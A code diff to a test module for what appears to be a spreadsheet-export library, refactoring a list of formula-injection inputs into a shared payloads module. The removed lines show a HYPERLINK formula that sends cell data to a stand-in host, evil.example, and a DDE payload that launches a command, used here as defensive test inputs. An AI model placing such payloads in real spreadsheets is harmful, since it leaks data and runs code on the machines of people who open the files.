@@ -22,21 +22,13 @@ from promzona.core.sinks import (
     spreadsheet_cell,
     xlsx_bytes,
 )
+from tests import payloads
 
 pytestmark = pytest.mark.nodb
 
 SRC = pathlib.Path(__file__).parents[2] / "src" / "promzona"
 
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-]
+FORMULAS = [*payloads.FORMULAS, "\r=1+1", "\n=1+1"]
 PLAIN = ["BLK-01", "Участок №11", "", " =not a formula", "a=b", "—", "'quoted"]
 
 
